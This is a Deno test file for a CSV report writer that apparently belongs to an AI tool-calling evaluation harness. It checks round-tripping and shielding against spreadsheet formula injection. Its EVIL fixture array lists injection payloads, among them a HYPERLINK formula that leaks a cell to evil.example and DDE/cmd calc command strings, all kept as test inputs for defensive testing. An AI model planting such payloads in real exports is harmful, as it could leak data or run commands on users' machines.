// CSV reports, read back by another program; docs/contracts.md has their columns.

import { assert, assertEquals, assertThrows } from "@std/assert";
import { parse } from "csv-parse/sync";
import type { JsonValue } from "../../lib/base/json.ts";
import { InputError } from "../../lib/base/errors.ts";
import { assertCsvFolder, csvLine, writeCsv } from "../../lib/reports/csv.ts";
import { METRICS } from "../../lib/reports/metrics/_registry.ts";
import type { Prices } from "../../lib/models/prices.ts";
import type { AssertionEvent } from "../../lib/calls/trace.ts";
import type { Trial } from "../../lib/trials/trial.ts";
import { folder } from "../support/child.ts";
import { textOf } from "../support/documents.ts";
import fc from "../support/fast_check.ts";
import { crossed, failureOf, HOSTILE, record, records } from "../support/records.ts";
import { reportOf } from "../support/reports.ts";

/** A row by the names of its columns. */
type Row = Readonly<Record<string, string>>;

/** The rows of CSV. */
function rowsOf(text: string): Row[] {
  return parse(text, { columns: true });
}

/** What a spreadsheet may run: the sign may come behind blanks and quotes. */
const RUNS = /^[\s"']*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r\n]/;

/** What nobody sees: it steers terminals, or turns the order of letters. */
// deno-lint-ignore no-control-regex
const UNSEEN = /[\0-\x08\v\f\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/;

/** Returns a text as cells have it, but for shields. */
function shown(text: string): string {
  return text.toWellFormed().replaceAll(new RegExp(UNSEEN, "g"), "\ufffd");
}

/** Returns a cell as it was before it was shielded, as docs/contracts.md says. */
function unshielded(cell: string): string {
  const begun = cell.startsWith("'") && (RUNS.test(cell) || /^['"]*[\t\r\n]/.test(cell));
  return cell.slice(begun ? 1 : 0)
    .split(/(?<=[;\t\r\n])/)
    .map((part, place) =>
      place > 0 && part.startsWith("'") && RUNS.test(part) ? part.slice(1) : part
    )
    .join("");
}

/** The parts of a cell that a program may take for cells, which splits lines at other places. */
const partsOf = (cell: string) => cell.split(/[;\t\r\n]/);

const EVIL = [
  '=HYPERLINK("https://evil.example?leak="&A1, "click")',
  "=1+1",
  "@SUM(A1:A9)",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  '"=1+1',
  "'=1+1",
  "''=1",
  "' =1",
  "  =1+1",
  "\u00a0=1",
  "\uff1d1+1",
  "a,b;c\td",
  "x;=cmd|' /C calc'!A0",
  'x; "@SUM(A1)\t-1\n\r+1',
  'say ""hi""',
  "line\r\nline\nline\rline",
  "\u0000nul\u0000",
  "\u001b[31mred\u202eder\u009b",
  "\ud800 half \udfff",
  "'",
  '"',
  "'plain",
  " ",
  HOSTILE,
];

Deno.test("csvLine() is read by another program as it was, and nothing in it runs in a spreadsheet", () => {
  const pieces = fc.constantFrom(...EVIL, ...`=+-@'", \t\r\n;|\u0000\ud800ax5.`);
  const text = fc.oneof(
    fc.constantFrom(...EVIL),
    fc.array(pieces, { maxLength: 6 }).map((parts) => parts.join("")),
    fc.string({ unit: fc.character() }),
  );
  fc.assert(
    fc.property(fc.array(text, { minLength: 2, maxLength: 4 }), (texts) => {
      const line = csvLine(texts);
      assert(!UNSEEN.test(line) && line.isWellFormed());
      const [cells, ...others] = parse(line) as string[][];
      assertEquals(others, []);
      const wanted = texts.map(shown);
      for (const cell of cells!) {
        for (const part of partsOf(cell)) {
          assert(part.startsWith("'") || !RUNS.test(part) || !isNaN(Number(cell)), cell);
        }
      }
      assertEquals(cells!.map(unshielded), wanted);
    }),
    { numRuns: 600 },
  );
});

Deno.test("csvLine() writes numbers unrounded and plain, booleans as words, and nothing for what is not known", () => {
  const cells: (JsonValue | undefined)[] = [
    ...[-0.1, 1 / 3, 1e-7, 1e21, -5, 0, NaN, Infinity, true, false, null, undefined, ""],
    ...["-5", "+5.5e3", "-5-5", { b: [1], a: "x" }],
  ];
  assertEquals(
    csvLine(cells),
    '-0.1,0.3333333333333333,1e-7,1e+21,-5,0,,,true,false,,,,-5,+5.5e3,\'-5-5,"{""a"":""x"",""b"":[1]}"\n',
  );
});

const EVENTS: Trial["events"] = [
  {
    ...{ kind: "call", call: 1, step: 1, function: "=now()", arguments: '{"a": 1}' },
    ...{ result: `${"x".repeat(1_999)}\u{1f600}`, returned: { variable: "v", value: 1 } },
    durationMs: 2.5,
  },
  {
    ...{ kind: "call", call: 2, step: 2, function: "gone", arguments: "{", result: "no such" },
    failure: { type: "function_not_found", root: true, detail: { nearest: "now" } },
  },
];

const UNMET: AssertionEvent = {
  ...{ kind: "assertion", message: "=expected 1.\nno more", at: "a_test.ts:7:3" },
};

/** Trials of every kind of task, and two strategies on the same graphs. */
const TRIALS: Trial[] = [
  ...crossed({ both: 3, gained: 2, lost: 1 }),
  ...records(["invalid"], { model: "other", reason: "502", seed: 9 }),
  record({
    ...{ id: "t", task: { case: "=refunds", seed: 3 }, outcome: "wrong_answer", model: "@m" },
    ...{ failures: [failureOf("function_not_found")], calls: 2, events: [...EVENTS, UNMET] },
    ...{ behaviours: ["silent", "aversion"], startedAt: "2026-01-02T03:04:05Z", suite: "own" },
    usage: { inputTokens: 1000, outputTokens: 10, estimated: true },
  }),
  record({ id: "p", task: { case: "oracle", seed: 1 }, perturbation: "RD", changed: false }),
  record({
    id: "q",
    task: { set: "city", question: "lib01", difficulty: "easy", mode: "parameters" },
    domain: "library",
  }),
].map((trial, index) => ({ ...trial, index }));

/** Writes trials into a folder that does not exist yet, and reads it: the text of each file by its name. */
async function written(trials: readonly Trial[], prices: Prices = {}) {
  await using place = await folder();
  const path = place.file("new/folder");
  const count = writeCsv(path, reportOf(trials, { prices }), trials.toReversed());
  const files = new Map(
    [...Deno.readDirSync(path)].map(({ name }) => [name, Deno.readTextFileSync(`${path}/${name}`)]),
  );
  assertEquals(files.size, count);
  return files;
}

Deno.test("writeCsv() writes a row a trial in plan order, with the fields of its kind of task", async () => {
  const prices = { "@m": { input: 1, output: 10 }, m: { input: 2, output: 20 } };
  const trials = rowsOf((await written(TRIALS, prices)).get("trials.csv")!);
  assertEquals(trials.map((row) => unshielded(row["id"]!)), TRIALS.map(({ id }) => id));
  assertEquals(trials.map((row) => Number(row["number"])), TRIALS.map((_, place) => place + 1));
  const [own, probe, question] = trials.slice(-3);
  assertEquals<unknown>({ ...own }, {
    ...{ id: "t", number: String(TRIALS.length - 2), suite: "own", kind: "case" },
    ...{ cell: "'=refunds", unit: '{"case":"=refunds","seed":3}' },
    ...{ task: '{"case":"=refunds","seed":3}', core: "", depth: "", connected: "" },
    ...{ disconnected: "", task_seed: "3", test: "'=refunds", probe: "", question_set: "" },
    ...{ question: "", difficulty: "", mode: "", domain: "", repetition: "1", model: "'@m" },
    ...{ strategy: "plain", perturbation: "none", variant: "", served: "'@m" },
    ...{ simulated: "false", outcome: "wrong_answer", solved: "false", valid: "true" },
    ...{ changed: "", unsolvable: "", grounded: "false", calls: "2" },
    ...{ fewest_calls: "3", wrong_calls: "1", root_failures: "1" },
    ...{ behaviours: "silent;aversion", input_tokens: "1000", output_tokens: "10" },
    ...{ tokens_estimated: "true", cost_usd: "0.0011", duration_ms: "100" },
    ...{ started_at: "2026-01-02T03:04:05Z", replayed: "false", partly_replayed: "false" },
    ...{ reason: "", why: "'=expected 1 (a_test.ts:7)", agent: "" },
    ...{ user_messages: "", user_end: "", user_fault: "" },
  });
  const figuresOf = (row: Row, names: string) => names.split(" ").map((name) => row[name]);
  assertEquals(figuresOf(probe!, "probe test changed valid"), ["oracle", "", "false", "false"]);
  assertEquals(
    figuresOf(question!, "kind question_set question difficulty mode domain calls core"),
    ["question", "city", "lib01", "easy", "parameters", "library", "", ""],
  );
  const invalid = trials.find((row) => row["outcome"] === "invalid")!;
  assertEquals(figuresOf(invalid, "reason why valid cost_usd"), ["502", "", "false", ""]);
  assertEquals(figuresOf(trials[0]!, "core depth kind"), ["3", "2", "generated"]);
});

Deno.test("writeCsv() writes a row a call, with long texts cut", async () => {
  const calls = rowsOf((await written(TRIALS)).get("calls.csv")!);
  assertEquals<unknown>(calls.map((row) => ({ ...row })), [
    {
      ...{ trial_id: "t", call: "1", step: "1", function: "'=now()", arguments: '{"a": 1}' },
      ...{ result: `${"x".repeat(1_999)}…`, refused: "false", failure: "", root: "", cause: "" },
      ...{
        guessed: "false",
        fault: "",
        blocked_by: "",
        error: "",
        made_by: "model",
        duration_ms: "2.5",
        agent_did: "",
      },
    },
    {
      ...{ trial_id: "t", call: "2", step: "2", function: "gone", arguments: "{" },
      ...{ result: "no such", refused: "true", failure: "function_not_found", root: "true" },
      ...{ cause: "there is no such function, the nearest is now", guessed: "false" },
      ...{ fault: "", blocked_by: "", error: "", made_by: "model", duration_ms: "", agent_did: "" },
    },
  ]);
});

Deno.test("writeCsv() writes a file for each metric that has records, a row a record, unrounded", async () => {
  const files = await written(TRIALS);
  const report = reportOf(TRIALS);
  const metrics = METRICS.map(({ id, records }) => [`${id}.csv`, records(report)] as const)
    .filter(([, records]) => records.length > 0);
  assertEquals(
    [...files.keys()].sort(),
    [...metrics.map(([name]) => name), "calls.csv", "trials.csv"].sort(),
  );
  for (const [name, records] of metrics) {
    const rows = rowsOf(files.get(name)!);
    assertEquals(rows.length, records.length, name);
    for (const [place, record] of records.entries()) {
      for (const [key, value] of Object.entries(record)) {
        const cell = rows[place]![key]!;
        if (typeof value === "number") assertEquals(Number(cell), value, `${name}: ${key}`);
        else if (value === null) assertEquals(cell, "", `${name}: ${key}`);
        else if (typeof value === "string") assertEquals(unshielded(cell), value);
      }
    }
  }
});

Deno.test("writeCsv() reads trials one by one, keeps none, and has whole files or none", async () => {
  await using place = await folder();
  const report = reportOf(TRIALS);
  const cut = function* () {
    yield TRIALS[0]!;
    throw new InputError("torn");
  };
  assertThrows(
    () => writeCsv(place.path, report, cut()),
    InputError,
    "torn",
  );
  assertEquals(place.names(), []);
});

Deno.test("writeCsv() writes hostile names and texts as they are, but for what would run", async () => {
  const trials = EVIL.map((text, index) =>
    record({
      ...{ id: `${index} ${text}`, index, suite: text, model: text, served: text },
      task: { case: text, seed: 1 },
      ...{ outcome: "invalid", reason: text, strategy: text, perturbation: text, variant: text },
      behaviours: [text] as unknown as Trial["behaviours"],
      events: [{
        ...{ kind: "call", call: 1, step: 1, function: text, arguments: text, result: text },
        error: text,
      }],
    })
  );
  const files = await written(trials);
  for (const text of files.values()) {
    for (const cell of (parse(text) as string[][]).flat()) {
      for (const part of partsOf(cell)) assert(part.startsWith("'") || !RUNS.test(part), cell);
    }
  }
  const wanted = EVIL.map(shown);
  const textsOf = (file: string, name: string) =>
    rowsOf(files.get(file)!).map((row) => unshielded(row[name]!));
  for (const name of "suite model served test strategy variant reason behaviours".split(" ")) {
    assertEquals(textsOf("trials.csv", name), wanted, name);
  }
  for (const name of ["function", "arguments", "result", "error"]) {
    assertEquals(textsOf("calls.csv", name), wanted.toReversed(), name);
  }
  assertEquals(textsOf("cells.csv", "cell"), wanted);
});

Deno.test("assertCsvFolder() lets files of its own be replaced, and no others", async () => {
  await using place = await folder();
  const report = reportOf(TRIALS);
  assertCsvFolder(place.file("missing"), report, "missing");
  writeCsv(place.path, report, TRIALS);
  assertCsvFolder(place.path, report, "out");
  for (const name of ["trials.csv", "calls.csv", "cells.csv"]) {
    const text = Deno.readTextFileSync(place.file(name));
    for (const other of ["id,number\n1,2\n", "a", text.slice(1)]) {
      place.write(name, other);
      assertThrows(
        () => assertCsvFolder(place.path, report, "out"),
        InputError,
        `Cannot write the report to out/${name} as only another such report may be replaced: another file is there`,
      );
    }
    for (const other of ["", text]) {
      place.write(name, other);
      assertCsvFolder(place.path, report, "out");
    }
  }
  Deno.removeSync(place.file("calls.csv"));
  Deno.mkdirSync(place.file("calls.csv"));
  assertThrows(() => assertCsvFolder(place.path, report, "out"), InputError, "out/calls.csv");
});

Deno.test("docs/contracts.md has the columns of the CSV files that all reports have, in their order, and each metric", async () => {
  const files = await written(TRIALS);
  const page = textOf("docs/contracts.md");
  const namesIn = (heading: string) => {
    const [section] = page.split(`\n### ${heading}\n`)[1]!.split(/\n##+ /);
    const rows = section!.split("\n").filter((line) => line.startsWith("| `"));
    return rows.flatMap((line) =>
      [...line.split("|")[1]!.matchAll(/`([^`]+)`/g)].map(([, one]) => one!)
    );
  };
  for (const name of ["trials.csv", "calls.csv", "cells.csv", "comparisons.csv"]) {
    assertEquals(namesIn(name), (parse(files.get(name)!) as string[][])[0], name);
  }
  assertEquals(
    namesIn("Metrics").filter((name) => !name.startsWith("FIGURE")),
    METRICS.map(({ id }) => id),
  );
});
